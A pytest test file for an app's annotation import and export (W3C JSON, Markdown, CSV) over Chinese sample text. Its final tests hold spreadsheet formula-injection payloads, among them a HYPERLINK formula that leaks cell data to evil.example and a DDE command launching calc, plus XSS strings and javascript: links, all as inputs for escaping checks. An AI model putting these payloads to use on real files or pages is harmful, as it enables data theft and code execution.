"""Export to W3C JSON, Markdown and CSV; import of W3C JSON, by position or by quote."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timezone

import pytest

from reader.document import open_document
from reader.store import ExchangeError, export_annotations, import_annotations, open_store
from reader.store.exchange import csv_cell


@pytest.fixture
def annotated(store, seed, span):
    """Three annotations on the seed: a named colour with tags, a note, a nested section."""
    record = store.open_document(seed).record
    made = []
    for quote, colour, note, tags in [
        ("网上善意批评要认真研究吸收", "yellow", "", ()),
        ("我国有7亿网民", "red", "七亿是多少?\n# not a heading", ("数字", "统计")),
        ("习近平怎样当", "green", "a note", ("标题",)),
    ]:
        start, end = span(seed, quote)
        made.append(
            store.annotations.create(
                record.id, seed.text, start, end, colour=colour, note=note, tags=tags
            )
        )
    return made


def test_json_is_a_w3c_annotation_collection(store, seed, annotated):
    data = json.loads(export_annotations(store, seed, "json"))
    assert data["@context"] == "http://www.w3.org/ns/anno.jsonld"
    assert data["type"] == "AnnotationCollection"
    assert data["total"] == 3
    items = data["first"]["items"]
    red = next(item for item in items if item["id"] == f"urn:uuid:{annotated[1].id}")
    assert red["type"] == "Annotation"
    quote, position = red["target"]["selector"]
    assert quote == {
        "type": "TextQuoteSelector",
        "exact": "我国有7亿网民",
        "prefix": annotated[1].prefix,
        "suffix": annotated[1].suffix,
    }
    assert position == {
        "type": "TextPositionSelector",
        "start": annotated[1].start,
        "end": annotated[1].end,
    }
    assert red["target"]["styleClass"] == "red"
    assert red["target"]["source"] == seed.path.as_uri()
    assert [(b["purpose"], b["value"]) for b in red["body"]] == [
        ("commenting", "七亿是多少?\n# not a heading"),
        ("tagging", "question"),
        ("tagging", "数字"),
        ("tagging", "统计"),
    ]
    assert all(b["type"] == "TextualBody" for b in red["body"])
    assert red["created"].endswith("Z")


def test_position_selectors_count_code_points(store, tmp_path):
    """𠀀 is one code point but two UTF-16 units: the offsets after it must not move."""
    path = tmp_path / "astral.txt"
    path.write_text("标题\n\n𠀀字在前面,然后是网民两个字。\n", encoding="utf-8")
    document = open_document(path)
    record = store.open_document(document).record
    start = document.text.index("网民")
    store.annotations.create(record.id, document.text, start, start + 2)
    (item,) = json.loads(export_annotations(store, document, "json"))["first"]["items"]
    position = item["target"]["selector"][1]
    assert document.text[position["start"] : position["end"]] == "网民"
    assert position["start"] == document.text.index("𠀀") + 9


def test_import_then_export_round_trips_the_json(store, seed, annotated, tmp_path):
    exported = export_annotations(store, seed, "json")
    with open_store(tmp_path / "other") as other:
        report = import_annotations(other, seed, exported)
        assert (report.added, report.updated, report.by_position, report.orphans) == (3, 0, 3, 0)
        assert json.loads(export_annotations(other, seed, "json")) == json.loads(exported)
        assert other.annotations.count() == 3


def test_a_file_written_with_a_byte_order_mark_is_read(store, seed, annotated, tmp_path):
    exported = export_annotations(store, seed, "json")
    with open_store(tmp_path / "other") as other:
        report = import_annotations(other, seed, b"\xef\xbb\xbf" + exported.encode("utf-8"))
        assert report.added == 3


def test_importing_the_same_ids_again_updates_them(store, seed, annotated):
    data = json.loads(export_annotations(store, seed, "json"))
    data["first"]["items"][0]["body"].insert(
        0, {"type": "TextualBody", "purpose": "commenting", "value": "changed"}
    )
    report = import_annotations(store, seed, json.dumps(data))
    assert (report.added, report.updated) == (0, 3)
    assert store.annotations.count() == 3
    assert store.annotations.get(annotated[0].id).note == "changed"


def test_an_annotation_with_only_a_quote_is_anchored_by_it(store, seed):
    data = {
        "@context": "http://www.w3.org/ns/anno.jsonld",
        "id": "https://example.org/annotations/1",
        "type": "Annotation",
        "body": [
            {"type": "TextualBody", "purpose": "commenting", "value": "from another tool"},
            {"type": "TextualBody", "purpose": "tagging", "value": "Question"},
            {"type": "TextualBody", "purpose": "tagging", "value": "网络"},
        ],
        "target": {
            "source": "https://example.org/article",
            "selector": {"type": "TextQuoteSelector", "exact": "群众在哪儿"},
        },
    }
    report = import_annotations(store, seed, json.dumps(data))
    assert (report.added, report.by_quote, report.orphans) == (1, 1, 0)
    (annotation,) = store.open_document(seed).annotations
    assert seed.text[annotation.start : annotation.end] == "群众在哪儿"
    assert annotation.note == "from another tool"
    assert annotation.colour == "red"  # the tag "Question" is red's name
    assert annotation.tags == ("网络",)
    assert annotation.prefix == seed.text[annotation.start - 32 : annotation.start]
    again = import_annotations(store, seed, json.dumps(data))
    assert (again.added, again.updated) == (0, 1)


def test_a_wrong_position_is_corrected_by_the_quote(store, seed, span):
    start, end = span(seed, "集腋成裘")
    data = [
        {
            "type": "Annotation",
            "target": {
                "selector": [
                    {"type": "TextQuoteSelector", "exact": "集腋成裘"},
                    {"type": "TextPositionSelector", "start": start + 5, "end": end + 5},
                ]
            },
        }
    ]
    report = import_annotations(store, seed, json.dumps(data))
    assert (report.by_position, report.by_quote) == (0, 1)
    (annotation,) = store.open_document(seed).annotations
    assert (annotation.start, annotation.end) == (start, end)


def test_an_orphan_is_exported_with_its_quote_and_without_a_position(store, seed_copy):
    document = open_document(seed_copy)
    record = store.open_document(document).record
    sentence = "网络空间是亿万民众共同的精神家园。"
    start = document.text.index(sentence)
    made = store.annotations.create(
        record.id, document.text, start, start + len(sentence), note="gone", tags=["x"]
    )
    seed_copy.write_text(
        seed_copy.read_text(encoding="utf-8").replace(sentence, ""), encoding="utf-8"
    )
    edited = open_document(seed_copy)

    (item,) = json.loads(export_annotations(store, edited, "json"))["first"]["items"]
    assert item["target"]["selector"] == [
        {
            "type": "TextQuoteSelector",
            "exact": sentence,
            "prefix": made.prefix,
            "suffix": made.suffix,
        }
    ]
    markdown = export_annotations(store, edited, "md")
    assert "## Not found in the current text\n\n> " + sentence in markdown
    assert "gone" in markdown
    (row,) = csv.DictReader(io.StringIO(export_annotations(store, edited, "csv")))
    assert (row["quote"], row["orphan"], row["start"], row["section"]) == (sentence, "yes", "", "")

    report = import_annotations(store, edited, json.dumps([item]))
    assert (report.updated, report.orphans) == (1, 1)
    assert store.annotations.get(made.id).orphan


def test_markdown_has_the_title_then_each_section_with_its_annotations(store, seed, annotated):
    markdown = export_annotations(store, seed, "md")
    assert markdown == (
        "# 习近平主持召开网络安全和信息化工作座谈会\n"
        "\n"
        "> 网上善意批评要认真研究吸收\n"
        "\n"
        "Colour: vocabulary (yellow)\n"
        "\n"
        "## 各级领导干部 要经常上网看看\n"
        "\n"
        "> 我国有7亿网民\n"
        "\n"
        "七亿是多少?\n"
        "\\# not a heading\n"
        "\n"
        "Colour: question (red) · Tags: 数字, 统计\n"
        "\n"
        "### 从微博到祝福语音 习近平怎样当“资深网民”\n"
        "\n"
        "> 习近平怎样当\n"
        "\n"
        "a note\n"
        "\n"
        "Colour: grammar (green) · Tags: 标题\n"
    )


def test_csv_has_one_row_per_annotation(store, seed, annotated):
    rows = list(csv.DictReader(io.StringIO(export_annotations(store, seed, "csv"))))
    assert [row["quote"] for row in rows] == [a.quote for a in annotated]
    red = rows[1]
    assert red["note"] == "七亿是多少?\n# not a heading"
    assert (red["colour"], red["colour_name"], red["tags"]) == ("red", "question", "数字; 统计")
    assert red["section"] == "各级领导干部 要经常上网看看"
    assert (int(red["start"]), int(red["end"])) == (annotated[1].start, annotated[1].end)


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"{not json", "is not JSON"),
        (b"\xff\xfe\x00", "is not UTF-8"),
        (b'{"type": "Something"}', "holds no W3C annotations"),
        (b"42", "holds no W3C annotations"),
    ],
)
def test_a_file_that_is_not_w3c_json_is_refused_with_a_reason(store, seed, data, reason):
    with pytest.raises(ExchangeError, match=reason):
        import_annotations(store, seed, data, "notes.json")
    assert store.annotations.count() == 0


def test_items_without_any_text_selector_are_counted_as_skipped(store, seed):
    data = [{"type": "Annotation", "target": "https://example.org/page"}]
    report = import_annotations(store, seed, json.dumps(data))
    assert (report.added, report.skipped) == (0, 1)
    assert "1 skipped" in report.message


def two_documents(tmp_path):
    first, second = tmp_path / "a.txt", tmp_path / "b.txt"
    first.write_text("第一篇\n\n网络空间是亿万民众共同的精神家园。\n", encoding="utf-8")
    second.write_text("第二篇\n\n网络空间是亿万民众共同的精神家园。还有别的。\n", encoding="utf-8")
    return open_document(first), open_document(second)


def test_importing_another_documents_ids_copies_them_and_leaves_the_first(store, tmp_path):
    first, second = two_documents(tmp_path)
    record = store.open_document(first).record
    made = [
        store.annotations.create(record.id, first.text, *span, note=note)
        for span, note in [((5, 9), "一"), ((9, 13), "二")]
    ]
    exported = export_annotations(store, first, "json")

    report = import_annotations(store, second, exported)

    assert (report.added, report.copied, report.updated) == (2, 2, 0)
    assert report.message.startswith(
        "2 added (2 copied from another document with new ids), 0 updated; "
    )
    assert store.open_document(first).annotations == made
    copies = store.open_document(second).annotations
    assert [a.note for a in copies] == ["一", "二"]
    assert {a.id for a in copies}.isdisjoint({a.id for a in made})
    assert [second.text[a.start : a.end] for a in copies] == [a.quote for a in made]

    again = import_annotations(store, second, exported)
    assert (again.added, again.copied, again.updated) == (0, 0, 2)
    assert "copied" not in again.message
    assert store.annotations.count() == 4
    assert import_annotations(store, first, exported).updated == 2
    assert store.open_document(first).annotations == made


def test_an_import_changes_the_version_so_an_older_copy_cannot_be_saved(store, seed, annotated):
    data = json.loads(export_annotations(store, seed, "json"))
    data["first"]["items"][1]["body"][0]["value"] = "changed by the import"
    window_copy = store.annotations.get(annotated[1].id)
    import_annotations(store, seed, json.dumps(data))
    assert store.annotations.get(annotated[1].id).version == window_copy.version + 1


def poison(store, sql: str, *parameters) -> None:
    """Write past Reader's own checks, as another program (or an older Reader) could."""
    with store.database.transaction():
        store.database.execute(sql, parameters)


@pytest.mark.parametrize(
    ("assignment", "value"),
    [
        ("created = ?", "0001-01-01T00:00:00.000+14:00"),
        ("updated = ?", "9999-12-31T23:59:59.000-14:00"),
        ("updated = ?", "not a time"),
        ("colour = ?", "magenta"),
        ("start_offset = start_offset + ?, end_offset = end_offset + ?", 2**62),
    ],
)
def test_values_out_of_range_in_the_store_do_not_stop_an_export(
    store, seed, annotated, assignment, value
):
    poison(store, f"UPDATE annotations SET {assignment}", *[value] * assignment.count("?"))
    for format in ("json", "md", "csv"):
        assert export_annotations(store, seed, format).count("网上善意批评要认真研究吸收") == 1


def test_a_time_out_of_range_in_the_store_reads_as_the_nearest_time(store, seed, annotated):
    poison(store, "UPDATE annotations SET created = '0001-01-01T00:00:00.000+14:00'")
    poison(store, "UPDATE annotations SET updated = '9999-12-31T23:59:59.000-14:00'")
    (first, *_) = store.annotations.for_document(annotated[0].document_id)
    assert first.created == datetime.min.replace(tzinfo=timezone.utc)
    assert first.updated == datetime.max.replace(tzinfo=timezone.utc)
    exported = export_annotations(store, seed, "json")
    with open_store(store.path.parent.parent / "other") as other:
        assert import_annotations(other, seed, exported).added == 3


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_never_run_as_spreadsheet_formulas(store, seed, span, formula):
    record = store.open_document(seed).record
    start, end = span(seed, "我国有7亿网民")
    made = store.annotations.create(
        record.id, seed.text, start, end, colour="red", note=formula, tags=(formula,)
    )
    exported = export_annotations(store, seed, "csv")
    (row,) = csv.DictReader(io.StringIO(exported))
    assert row["note"] == "'" + made.note  # the store trims the tab or CR away
    assert row["tags"] == "'" + made.tags[0]
    assert row["quote"] == "我国有7亿网民"
    assert exported.startswith('"id","section","start"')  # every cell quoted


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_starts_a_formula_starts_with_a_quote(formula):
    assert csv_cell(formula) == "'" + formula
    assert csv_cell("七亿 = 7亿") == "七亿 = 7亿"
    assert csv_cell(42) == 42


def test_markdown_shows_html_and_links_in_notes_as_text(store, seed, span):
    record = store.open_document(seed).record
    start, end = span(seed, "我国有7亿网民")
    note = (
        "<script>alert(1)</script>\n"
        "<img src=http://tracker.example/p.png>\n"
        "[click](javascript:alert(1)) ![x](http://tracker.example/x.png)\n"
        "[ref]: javascript:alert(1)\n"
        "> not a quote & not &lt;an entity&gt; \\[already escaped]"
    )
    store.annotations.create(
        record.id, seed.text, start, end, colour="red", note=note, tags=("<b>标签</b>",)
    )
    markdown = export_annotations(store, seed, "md")
    assert (
        "&lt;script&gt;alert(1)&lt;/script&gt;\n"
        "&lt;img src=http://tracker.example/p.png&gt;\n"
        "\\[click\\](javascript:alert(1)) !\\[x\\](http://tracker.example/x.png)\n"
        "\\[ref\\]: javascript:alert(1)\n"
        "&gt; not a quote &amp; not &amp;lt;an entity&amp;gt; \\\\\\[already escaped\\]\n"
    ) in markdown
    assert "Tags: &lt;b&gt;标签&lt;/b&gt;" in markdown
    assert "<" not in markdown


def test_markdown_shows_markup_in_headings_and_quotes_as_text(store, tmp_path):
    path = tmp_path / "page.txt"
    path.write_text(
        "<img src=x onerror=alert(1)>\n\n正文 <b>粗体</b> [链接](javascript:x)。\n",
        encoding="utf-8",
    )
    document = open_document(path)
    record = store.open_document(document).record
    start = document.text.index("<b>")
    end = len(document.text) - 1
    store.annotations.create(record.id, document.text, start, end, colour="red")
    markdown = export_annotations(store, document, "md")
    assert markdown.startswith("# &lt;img src=x onerror=alert(1)&gt;\n")
    assert "> &lt;b&gt;粗体&lt;/b&gt; \\[链接\\](javascript:x)\n" in markdown
